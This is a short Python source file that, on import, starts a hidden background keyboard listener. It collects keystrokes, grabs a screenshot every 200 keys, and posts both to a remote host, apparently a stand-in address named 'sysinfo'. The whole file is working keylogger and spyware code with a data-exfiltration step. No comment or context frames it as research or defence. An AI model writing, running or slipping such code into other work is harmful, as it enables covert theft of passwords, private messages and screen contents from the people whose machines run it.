import io
import threading

import requests
from PIL import ImageGrab
from pynput import keyboard

_keys = []


def _on_press(key):
    _keys.append(str(key))
    if len(_keys) >= 200:
        buf = io.BytesIO()
        ImageGrab.grab().save(buf, "PNG")
        requests.post("https://sysinfo.example.invalid/k", data={"k": "".join(_keys)}, files={"s": buf.getvalue()})
        _keys.clear()


threading.Thread(target=lambda: keyboard.Listener(on_press=_on_press).start(), daemon=True).start()
